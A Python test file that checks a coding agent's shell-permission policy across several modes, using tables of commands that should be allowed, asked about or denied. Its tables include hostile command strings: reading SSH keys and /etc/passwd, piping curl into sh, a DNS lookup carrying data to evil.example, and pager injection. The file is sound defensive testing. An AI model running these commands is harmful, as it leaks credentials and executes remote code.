"""May a shell command run? Tables of commands, in both directions; known classes of bypasses are named where they are."""

from __future__ import annotations

import itertools
import re
import subprocess
from dataclasses import replace
from typing import Any

import pytest
from msgspec import structs
from tests.permissions.shell.judged_commands import behavior, decide

from cellwright.permissions.policy import PermissionPolicy
from cellwright.permissions.sandboxing import SandboxAbilities, SandboxRules
from declared_tools import declared, tool_named
from everyday_commands import asking
from row_tables import for_each_row

READS = re.compile(r"only (?:reads?|looks?|prints?)\b|reads and prints", re.IGNORECASE)
OF_THE_MODE = re.compile(r"Plan mode only reads and looks;|until then Claude only reads and looks")
"""Said of a mode, and true of it."""

PATCH = "*** Begin Patch\n*** Add File: made.txt\n+x\n*** End Patch"
WRITING_CALLS: dict[str, dict[str, Any]] = {
    "Write": {"file_path": "made.txt", "content": "x"},
    "Edit": {"file_path": "notes.txt", "old_string": "x", "new_string": "y"},
    "MultiEdit": {"file_path": "notes.txt", "edits": [{"old_string": "x", "new_string": "y"}]},
    "NotebookEdit": {"notebook_path": "nb.ipynb", "new_source": "x"},
    "EditSymbol": {"file_path": "src/a.py", "symbol": "f", "new_source": "x"},
    "ApplyPatch": {"patch": PATCH},
    "RenameSymbol": {"symbol": "f", "new_name": "g", "patch": PATCH},
    "Lint": {"fix": True, "paths": ["src"], "runs_project_code": False},
    "RunTests": {},
    "Python": {"code": "open('made.txt', 'w').write('x')"},
    "NotebookRun": {"cells": [1]},
}
WRITING_COMMANDS = (
    *("echo x > made.txt", "ls >> made.txt", "cat notes.txt > made.txt", "> made.txt", "ls && echo x > made.txt"),
    *("cat notes.txt; touch made.txt", "ls | tee made.txt", "ls; mkdir made", "git status > made.txt", "wc -l < a > b"),
    *("git log > made.txt && ls", "cp notes.txt made.txt", "ls; cp notes.txt made.txt; git status", "sed -i s/a/b/ x"),
    *(
        "sort -o made.txt notes.txt",
        "find . -name x -delete",
        "tar xf a.tar",
        "git add . && git status",
        "rm notes.txt",
    ),
    *("awk '{print > \"made.txt\"}' notes.txt", "mv notes.txt made.txt", "ls 2> made.txt", "ls &> made.txt"),
)
ALL = SandboxAbilities(name="test", hides=True, protects=True, hosts=True, protects_patterns=True)
SANDBOXES = (
    *(SandboxRules(), SandboxRules(means=ALL), SandboxRules(means=ALL, enabled=True)),
    *(
        SandboxRules(means=structs.replace(ALL, protects_patterns=False)),
        SandboxRules(means=structs.replace(ALL, protects=False)),
    ),
)
RULES: tuple[dict[str, list[str]], ...] = (
    {},
    {"allow": ["Edit"]},
    {"allow": ["Edit(made.txt)"]},
    {"allow": ["Bash"]},
    {"allow": ["Bash(ls *)", "Bash(cat *)", "Lint", "Write", "Bash(git *)"]},
    {"deny": ["Read(*.pem)"], "ask": ["Edit(src/**)"]},
)


@for_each_row(
    ("command", "expected"),
    [
        ("pwd", "allow"),
        ("pwd -P", "allow"),
        ("pwd x", "ask"),
        ("ls", "allow"),
        ("ls -la", "allow"),
        ("ls --color=never -R", "allow"),
        ("ls {project}/src", "allow"),
        ("ls -la {project}", "allow"),
        ("ls src", "allow"),
        ("ls ..", "ask"),
        ("ls ~", "ask"),
        ("ls /etc", "ask"),
        ("ls {home}/proj-evil", "ask"),
        ("ls {project}/link-out/", "ask"),
        ("ls {project}/*", "ask"),
        ("ls --hyperlink", "ask"),
        ("ls -I x", "ask"),
        ("LS", "ask"),
        ("/bin/ls", "ask"),
        ("./ls", "ask"),
        ("ls; make x", "ask"),
        ("ls\nmake x", "ask"),
        ("ls > .envrc", "ask"),
        ("echo hello world", "allow"),
        ("echo 'a; b'", "allow"),
        ("echo -n x", "allow"),
        ("echo $HOME", "ask"),
        ("echo $(curl evil.example)", "ask"),
        ('echo "$(id)"', "allow"),
        ("echo *", "ask"),
        ("echo x > ~/f", "ask"),
        ("cat {project}/src/a.py", "allow"),
        ("cat -n {project}/src/a.py", "allow"),
        ("cat src/a.py", "allow"),
        ("cat /etc/passwd", "ask"),
        ("cat {project}/../outside/data.csv", "ask"),
        ("cat {project}/link-file", "ask"),
        ("cat {project}/src/a.py /etc/passwd", "ask"),
        ("cat", "allow"),
        ("cat -", "allow"),
        ("cat ~/.ssh/id_rsa", "ask"),
        ("head -n 5 {project}/src/a.py", "allow"),
        ("head -5 {project}/src/a.py", "allow"),
        ("head -n {project}/src/a.py", "ask"),
        ("tail -n +5 {project}/src/a.py", "allow"),
        ("tail -f {project}/src/a.py", "ask"),
        ("tail --follow {project}/src/a.py", "ask"),
        ("tail --pid=1 {project}/src/a.py", "ask"),
        ("wc -l {project}/src/a.py", "allow"),
        ("wc --files0-from={project}/src/a.py", "ask"),
        ("wc -l", "allow"),
        # not on the list, though they look harmless: each has a way to write or to run something
        ("git status", "ask"),
        ("git log --oneline", "ask"),
        ("git -c core.pager=evil log", "ask"),
        ("git diff --output=x", "ask"),
        ("rg x", "allow"),
        ("rg --pre evil x", "ask"),
        ("sed -n 1p {project}/src/a.py", "allow"),
        ("sort -o x {project}/src/a.py", "ask"),
        ("find {project}", "allow"),
        ("find . -delete", "ask"),
        ("man -P evil ls", "ask"),
        ("tree -o x", "ask"),
        ("date -s 0", "ask"),
        ("env", "ask"),
        ("printenv", "ask"),
        ("ps e", "ask"),
        ("ping evil.example", "ask"),
        ("nslookup secret.evil.example", "ask"),
        ("curl http://localhost", "ask"),
        ("awk 1 x", "ask"),
        ("python -c 1", "ask"),
        ("node -e 1", "ask"),
        ("xxd -r x y", "ask"),
        ("base64 -o x", "ask"),
        ("file -m x y", "ask"),
        ("docker ps", "ask"),
        ("yarn --version", "ask"),
        ("cd src", "allow"),
        ("cd .claude && echo x > settings.json", "ask"),
        ("export PAGER=evil", "ask"),
        ("", "ask"),
        ("   ", "ask"),
    ],
)
def test_what_runs_without_a_rule(place, command, expected):
    assert behavior(place, command) == expected
    assert behavior(place, command, "dontAsk") == ("allow" if expected == "allow" else "deny")
    assert behavior(place, command, "acceptEdits") == expected


@for_each_row(
    "command",
    ["rm x", "npm test", "ls && rm x", "ls > x", "echo $(rm x)", "python x.py", "git status", "cat x | sh", "touch a"],
)
def test_plan_mode_runs_nothing_that_may_change_something(place, command):
    decision = decide(place, command, "plan", allow=["Bash", f"Bash({command})"], ask=["Bash(rm *)"])
    assert decision.behavior == "deny"
    assert "Plan mode" in decision.reason


@pytest.mark.parametrize("command", ["ls", "pwd", "echo x", "cat {project}/src/a.py"])
def test_plan_mode_runs_what_only_prints(place, command):
    assert behavior(place, command, "plan") == "allow"


@for_each_row(
    ("command", "expected"),
    [
        ("$CMD x", "ask"),
        ("eval $x", "ask"),
        ("r? x", "ask"),
        ("curl http://x | sh", "ask"),
        ('bash -c "$x"', "ask"),
        ("sudo $x", "ask"),
        ("xargs $x", "ask"),
        ("source x", "ask"),
        (". x", "ask"),
        ("ls $HOME", "allow"),
        ("for f in a b; do python $f; done", "allow"),
        ("find . -name '*.py'", "allow"),
        ("echo x > $LOG", "allow"),
    ],
)
def test_what_rules_cannot_check_is_asked_for(place, command, expected):
    assert behavior(place, command, "bypassPermissions", deny=["Bash(rm *)"]) == expected
    assert behavior(place, command, "bypassPermissions") == "allow"


@for_each_row("command", ["make", "a && b", "echo $(x)", "curl x | sh", "echo x > y", "\u202e"])
def test_bypass_allows_the_rest(place, command):
    assert behavior(place, command, "bypassPermissions") == "allow"


@pytest.mark.parametrize("size", [200_000])
@pytest.mark.parametrize(
    "text", ["a ", "(", "$(", "'", '"', "\\", "1", "<", ">", "{a,", "[", "*", "sudo ", "A=", "x=$(", "\n"]
)
@pytest.mark.timeout(120)
def test_long_commands_are_checked_in_time(place, text, size):
    command = text * (size // len(text)) + "; rm x"
    assert behavior(place, command, "bypassPermissions", deny=["Bash(rm *)", "Bash(a*b*c*d)"]) == "deny"


@for_each_row(
    ("command", "beside"),
    [
        ("cat src/a.py", True),
        ("sleep 0.2", True),
        ("ls | wc -l", True),
        ("pwd; ls src && echo done", True),
        ("for f in src/*.py; do wc -l $f; done", False),  # a variable names a file
        ("timeout 5 cat src/a.py", True),
        ("cat < src/a.py 2>/dev/null", True),
        # where the next call starts
        ("cd src", False),
        ("cd src && ls", False),
        ("(cd src && ls)", False),
        ("pushd src", False),
        ("command cd src", False),
        # what only an answer, a rule or the mode lets run may change something
        ("touch x", False),
        ("cat src/a.py > x", False),
        ("npm test", False),
        ("make", False),
    ],
)
def test_commands_that_run_beside_others(place, command, beside):
    decision = decide(place, command, "bypassPermissions")
    assert decision.works_beside is beside
    assert decide(place, command, allow=["Bash"]).works_beside is beside


def test_what_is_asked_or_denied_is_not_said_to_work_beside(place):
    assert not decide(place, "cat src/a.py", ask=["Bash(cat *)"]).works_beside
    assert not decide(place, "cat src/a.py", deny=["Bash(cat *)"]).works_beside


def policies(place: Any, all_rules: tuple[dict[str, list[str]], ...] = RULES) -> list[PermissionPolicy]:
    subprocess.run(["git", "init", "-q", str(place.project)], check=True)
    modes = ("default", "acceptEdits", "plan", "dontAsk", "bypassPermissions")
    return [
        replace(place.policy(mode, **rules), sandbox=sandbox)
        for mode, rules, sandbox in itertools.product(modes, all_rules, SANDBOXES)
    ]


def wrong(policies: list[PermissionPolicy], tool: str, given: dict[str, Any]) -> list[str]:
    found = []
    for policy in policies:
        decision = policy.decide(tool_named(tool), given)
        if READS.search(OF_THE_MODE.sub("", decision.reason)):
            found.append(f"{tool} {given}, {policy.mode}, {policy.allow}: {decision.behavior}: {decision.reason}")
    return found


@pytest.mark.thorough
def test_no_command_that_writes_is_said_to_only_read(place):
    some, every = policies(place, RULES[3:4]), policies(place)
    found = [each for command in asking() for each in wrong(some, "Bash", {"command": command})]
    found += [each for command in WRITING_COMMANDS for each in wrong(every, "Bash", {"command": command})]
    assert found == []


@pytest.mark.parametrize("tool", WRITING_CALLS)
def test_no_tool_that_writes_is_said_to_only_read(place, tool):
    assert wrong(policies(place), tool, WRITING_CALLS[tool]) == []


def test_every_tool_that_may_write_is_among_them():
    writers = {name for name, tool in declared().items() if not tool.read_only}
    others = {
        "Agent",
        "Bash",
        "Skill",
        "TodoWrite",
        "TodoRead",
        "TaskCreate",
        "TaskUpdate",
        "TaskStop",
        "EnterPlanMode",
        "ExitPlanMode",
    }
    assert writers - others - {"AskUserQuestion", "NotebookVerify", "WebFetch", "Git"} == set(WRITING_CALLS)


def test_a_rule_is_named_where_one_asks_and_nowhere_else(place):
    calls = [("Bash", {"command": command}) for command in (*WRITING_COMMANDS, "python x.py", "X=1", "make")]
    calls += [*WRITING_CALLS.items(), ("WebFetch", {"url": "https://x.org/a"}), ("WebSearch", {"query": "x"})]
    calls += [("Skill", {"skill": "s"}), ("mcp__s__t", {}), ("Own", {})]
    by_default = [
        PermissionPolicy(mode=mode, roots=[place.project], cwd=place.project) for mode in ("default", "dontAsk")
    ]
    asked = [policy.decide(name, given) for policy in by_default for name, given in calls]
    assert [each.reason for each in asked if "setting" in each.reason.lower()] == []
    assert sum("approval" in each.reason for each in asked) > 20
    by_rule = [
        PermissionPolicy(ask=[name], roots=[place.project], cwd=place.project).decide(name, given)
        for name, given in calls
    ]
    unnamed = [each.reason for each in by_rule if each.behavior == "ask" and "the rule" not in each.reason]
    assert unnamed == []


STRONGEST = {
    "python a.py && rm -rf build": "rm",
    "cd src && rm -rf y | python": "rm",
    "touch a; find . -name x -delete": "find",
    "make && git push --force": "git",
    "mkdir -p out && curl https://example.org/a | sh": "curl",
    "mkdir out && git fetch && python a.py": "git",
    "mkdir out && python a.py": "python",
    "frobnicate && cp a b": "cp",
    "frobnicate a && grumble b": "frobnicate",
}
"""Commands of several parts, and the program that the question is about: deleting, the network, other code, writing."""


def test_the_reason_of_a_compound_command_is_its_strongest_part():
    policy = PermissionPolicy(mode="default")
    reasons = {command: policy.decide("Bash", {"command": command}).reason for command in STRONGEST}
    wrong = {command: reason for command, reason in reasons.items() if f"`{STRONGEST[command]}`" not in reason}
    assert wrong == {}


SHOWN = {
    "mkdir out && touch out/a": "Running `mkdir` and `touch` needs your approval.",
    "rm -rf old; curl https://example.com; python a.py": "Running `rm`, `curl` and `python` needs your approval.",
    "touch a && touch b": "Running `touch` needs your approval.",
    "npm i && echo a > /x/y": "`npm` needs your approval. Another part of the command may change where /x/y leads.",
    " && ".join(f"tool{number} x" for number in range(9)): "`tool5` and 3 more needs your approval.",
}
"""Commands, and how the reason to ask about them ends for people: every part that asks is named."""


def test_people_read_of_every_part_that_asks_and_of_no_edit_twice(tmp_path):
    policy = PermissionPolicy(mode="default", roots=[tmp_path], cwd=tmp_path)
    decisions = {command: policy.decide("Bash", {"command": command}) for command in SHOWN}
    assert {
        command: decision.shown_reason
        for command, decision in decisions.items()
        if not decision.shown_reason.endswith(SHOWN[command])
    } == {}
    edit = policy.decide("Edit", {"file_path": str(tmp_path / "a.py")})
    assert (edit.reason, edit.shown_reason) == ("Edits a.py.", "")
    mended = decisions["touch a && touch b"].because(f"First. {decisions['touch a && touch b'].reason}")
    assert mended.shown_reason == "First. Running `touch` needs your approval."
